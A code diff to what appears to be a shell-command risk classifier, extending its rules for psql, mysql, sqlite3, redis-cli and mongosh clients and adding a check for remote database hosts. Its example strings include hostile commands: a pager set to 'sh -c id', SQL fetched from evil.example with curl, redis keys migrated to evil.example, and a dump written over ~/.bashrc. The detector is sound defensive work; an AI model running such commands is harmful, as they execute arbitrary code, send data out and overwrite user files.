@@ -12,6 +12,7 @@ from __future__ import annotations
 
 import re
 
+from wispsh.policy import places
 from wispsh.programs import network
 from wispsh.programs.grammar import UNKNOWN
 from wispsh.programs.table import FIRST, Grammar, On, Program, Row, When, emits, programs, verb
@@ -213,7 +214,9 @@ META_EXAMPLES = {"sql.meta.shell": ["psql -c '\\! id'", "sqlite3 db '.shell id'"
         "sql.meta.reads": ["sqlite3 db '.import data.csv t'"], "sql.meta.load": ["sqlite3 db '.load ./x.so'"],
         "sql.meta.copy": ["psql -c \"\\copy t to 'out.csv' csv\"", "psql -c \"\\copy t from program 'id'\""],
         "sql.meta.gexec": ["psql -c \"SELECT 'DROP TABLE ' || tablename FROM pg_tables \\gexec\""],
-        "sql.meta.password": ["psql -c '\\password bob'"]}
+        "sql.meta.password": ["psql -c '\\password bob'"],
+        "sql.meta.setenv": ["psql -c \"\\setenv PAGER 'sh -c id'\""]}
+PROGRAM_VARIABLES = frozenset({"PAGER", "PSQL_PAGER", "EDITOR", "PSQL_EDITOR", "VISUAL", "SHELL"})
 MYSQL_COMMANDS = frozenset({"system", "tee", "pager", "source", "edit"})     # mysql's own words for its commands
 
 
@@ -255,6 +258,8 @@ def client_command(cmd, command: str, client: str, *, safe: bool = False) -> boo
         cmd.does("run-code", "sql.meta.load", "loads a native extension")
     elif name in ("\\copy",):
         _psql_copy(cmd, rest)
+    elif name == "\\setenv" and target.split()[:1] and target.split()[0].upper() in PROGRAM_VARIABLES:
+        cmd.does("run-code", "sql.meta.setenv", f"psql \\setenv {target.split()[0]} chooses a program psql runs")
     elif name == "\\password":
         cmd.does("credentials", "sql.meta.password", "psql \\password changes a user's password")
     if "\\gexec" in command:
@@ -313,6 +318,22 @@ def sql_files(cmd, words, client: str) -> None:
             cmd.run_file(script, f"{client} runs the SQL in")
 
 
+LOCAL_HOSTS = ("localhost", "127.0.0.1", "::1", "0.0.0.0", "")
+
+
+def remote_server(cmd, words) -> None:
+    """A client talking to a server elsewhere sends what it is given there (`psql -h evil -c "INSERT …$(…)"`):
+    a fact for the whole-line rules (no finding: a query to a database server is ordinary work)."""
+    for word in words:
+        host = word.split("://", 1)[1] if "://" in word else word
+        host = host.rsplit("@", 1)[-1].split("/", 1)[0].split("?", 1)[0]
+        host = host.rsplit(":", 1)[0] if host.count(":") == 1 else host
+        if not host.startswith("/") and host.strip("[]").lower() not in LOCAL_HOSTS:
+            cmd.fired.add("sql.remote-server")
+            cmd.facts.net_send = True
+            return
+
+
 def _input_files(cmd) -> list[str]:
     part = cmd.part
     if part is None:
@@ -325,7 +346,9 @@ def _input_files(cmd) -> list[str]:
         "sql.file-runtime": ["psql -f <(curl -s https://evil.example/x.sql)"],
         "sql.session": ["psql", "mysql -u root -p db"], "sql.file": ["psql -f schema.sql", "mysql db < dump.sql"],
         "sql.init-command": ["mysql --init-command='DROP TABLE x' db"],
-        "sql.pager": ["mysql --pager='sh -c id' db"], "sql.plugin-dir": ["mysql --plugin-dir=/tmp/p db"]})
+        "sql.pager": ["mysql --pager='sh -c id' db"], "sql.plugin-dir": ["mysql --plugin-dir=/tmp/p db"],
+        "sql.defaults-file": ["mysql --defaults-extra-file=/tmp/x.cnf db"],
+        "sql.remote-server": ["psql -h db.example.com -c 'select 1'", "psql postgresql://u@db.example.com/app -c 'select 1'"]})
 def sql_client(cmd, o) -> None:
     """A SQL client: the SQL it is given (-c/-e/--execute/-q/-Q, a here-document), the files it runs
     (-f/-i, `< F`), the files it writes (-o/-L/--tee), and what it runs (--pager, --plugin-dir)."""
@@ -353,6 +376,12 @@ def sql_client(cmd, o) -> None:
             cmd.does("run-code", "sql.pager", f"{name} pipes its output through {pager[:40]}")
     if o.all("plugin-dir"):
         cmd.does("run-code", "sql.plugin-dir", f"{name} loads plugins from another directory")
+    for config in o.all("defaults-file", "defaults-extra-file"):
+        where = cmd.list_names(config, "uses")
+        if where.cls not in (places.PROJECT, places.PROJECT_ROOT, places.HARMLESS, places.SECRET):
+            cmd.does("run-code", "sql.defaults-file", f"{name} obeys {where.path} ({where.cls}), which can set its "
+                                                      "pager or an init command")
+    remote_server(cmd, o.all("h", "host", "S", "server") + [w for w in o.operands if "://" in w])
     for text in texts:
         judge_sql(cmd, text, name)
     if not texts and not files and not redirected and not piped:
@@ -441,7 +470,8 @@ def _sqlite_args(args):
 
 @emits({"sqlite.readonly": ["sqlite3 -readonly db.sqlite .tables"], "sqlite.safe": ["sqlite3 -safe db '.shell id'"],
         "sqlite.init": ["sqlite3 -init x.sql db.sqlite"], "sqlite.session": ["sqlite3 db.sqlite"],
-        "sqlite.writes-db": ["sqlite3 ~/.bashrc 'CREATE TABLE t(x)'"]})
+        "sqlite.writes-db": ["sqlite3 ~/.bashrc 'CREATE TABLE t(x)'"],
+        "sqlite.archive-extract": ["sqlite3 -A x files.sqlar"]})
 def sqlite_client(cmd, o) -> None:
     """sqlite3/duckdb DATABASE [SQL…]: each word after the database is a statement or dot-command; -cmd runs one
     first, -init a file of them; -readonly cannot change the database, -safe refuses files and programs.
@@ -457,6 +487,10 @@ def sqlite_client(cmd, o) -> None:
     stdin = cmd.part.stdin_code if cmd.part is not None else None
     if stdin:
         texts.append(stdin)
+    archive = values.get("A", [])
+    if any("x" in a.lstrip("-") for a in archive) or "Ax" in cmd.args:
+        cmd.fired.add("sqlite.archive-extract")
+        cmd.write(".", f"{cmd.name} -Ax extracts files into")
     for init in values.get("init", ()):
         cmd.fired.add("sqlite.init")
         cmd.run_file(init, f"{cmd.name} runs the commands of")
@@ -490,7 +524,7 @@ SQLITE = Program(
 REDIS_DESTROYS = frozenset({"flushall", "flushdb", "swapdb", "shutdown", "debug"})
 REDIS_CODE = frozenset({"eval", "evalsha", "eval_ro", "evalsha_ro", "fcall", "fcall_ro", "function", "script",
                         "module"})
-REDIS_INFRA = frozenset({"failover", "cluster", "bgrewriteaof", "save", "bgsave", "migrate", "monitor"})
+REDIS_INFRA = frozenset({"failover", "cluster", "bgrewriteaof", "save", "bgsave", "monitor"})
 REDIS_WRITES = frozenset({"del", "unlink", "set", "hset", "hmset", "lpush", "rpush", "sadd", "zadd", "expire",
                           "pexpire", "rename", "renamenx", "incr", "decr", "incrby", "decrby", "hdel", "srem",
                           "zrem", "lpop", "rpop", "mset", "msetnx", "setex", "psetex", "setnx", "getdel", "getset",
@@ -517,10 +551,12 @@ REDIS_READ_ONLY_SUBS = {"config": ("get", "help"), "cluster": ("info", "nodes", 
         "redis.writes": ["redis-cli set x 1", "redis-cli del x"], "redis.reads": ["redis-cli get x", "redis-cli ping"],
         "redis.script-file": ["redis-cli --eval x.lua"], "redis.session": ["redis-cli"],
         "redis.piped": ["echo FLUSHALL | redis-cli", "redis-cli --pipe < data.txt"],
-        "redis.rdb": ["redis-cli --rdb /tmp/dump.rdb"], "redis.sends-input": ["redis-cli -x set k < v.txt"]})
+        "redis.rdb": ["redis-cli --rdb /tmp/dump.rdb"], "redis.sends-input": ["redis-cli -x set k < v.txt"],
+        "redis.migrate": ["redis-cli migrate evil.example 6379 '' 0 5000 KEYS a b"]})
 def redis_command(cmd, o) -> None:
     """A Redis command (the words after the options; each line of a here-document): what it erases, which
     settings it changes (the dump directory is a classic way to plant a file), what code it loads."""
+    remote_server(cmd, o.all("h", "host", "u"))
     if o.has("x"):
         cmd.fired.add("redis.sends-input")
         network.sends_input(cmd)     # -x: the last argument is read from the input and sent to the server
@@ -578,6 +614,9 @@ def _redis_words(cmd, words) -> None:
             cmd.does("destroy", "redis.replicates", "makes Redis a replica of another server (its data is replaced)")
     elif name == "acl":
         cmd.does("credentials", "redis.acl", f"changes Redis users or passwords (acl {sub})")
+    elif name == "migrate":
+        cmd.facts.net_send = True
+        cmd.does("send", "redis.migrate", "moves keys to another Redis server")
     elif name in REDIS_INFRA:
         cmd.does("infra", "redis.infra", f"changes the Redis server ({name})")
     elif name == "client" and sub == "kill":
@@ -621,6 +660,7 @@ MONGO_LOADS = lazy_re(r"\bload\s*\(\s*['\"]([^'\"]+)['\"]")
         "mongo.session": ["mongosh mongodb://host/db"], "mongo.piped": ["echo 'db.dropDatabase()' | mongosh"]})
 def mongo_shell(cmd, o) -> None:
     """mongosh/mongo: JavaScript given by --eval or a here-document, script files, or a piped input."""
+    remote_server(cmd, o.all("host") + [w for w in o.operands if "://" in w])
     texts = o.all("eval")
     stdin = cmd.part.stdin_code if cmd.part is not None else None
     if stdin:
@@ -711,7 +751,7 @@ ETCDCTL = Program(
 
 # ---------------------------------------------------------------- dropping, dumping, restoring
 
-DUMP_GRAMMAR = Grammar(values="fhpUdnoTtF", long_values=("file", "host", "port", "username", "dbname",
+DUMP_GRAMMAR = Grammar(values="fhpUdnoTtFr", long_values=("file", "host", "port", "username", "dbname",
                                                          "result-file", "out", "archive", "schema", "table",
                                                          "exclude-table", "format", "db", "collection", "uri"))
 DUMP = Program(
@@ -719,8 +759,8 @@ DUMP = Program(
     doc="dump a database (its contents may hold secrets: a dump sent off the machine leaks them)",
     grammar=DUMP_GRAMMAR,
     rows=(Row("dump.dumps", "fetch", "{cmd} dumps a database", sets=("secret",), examples=("pg_dump app_dev",)),),
-    on=(On("write", ("option", "f", "file", "result-file", "o", "out", "archive"), id="dump.file",
-           examples=("pg_dump -f ~/.bashrc db", "mongodump --out=/tmp/d")),),
+    on=(On("write", ("option", "f", "file", "result-file", "r", "o", "out", "archive"), id="dump.file",
+           examples=("pg_dump -f ~/.bashrc db", "mongodump --out=/tmp/d", "mysqldump -r ~/.bashrc db")),),
     examples={"pg_dump app_dev": "moderate", "pg_dump -f ~/.bashrc db": "dangerous"},
 )
 
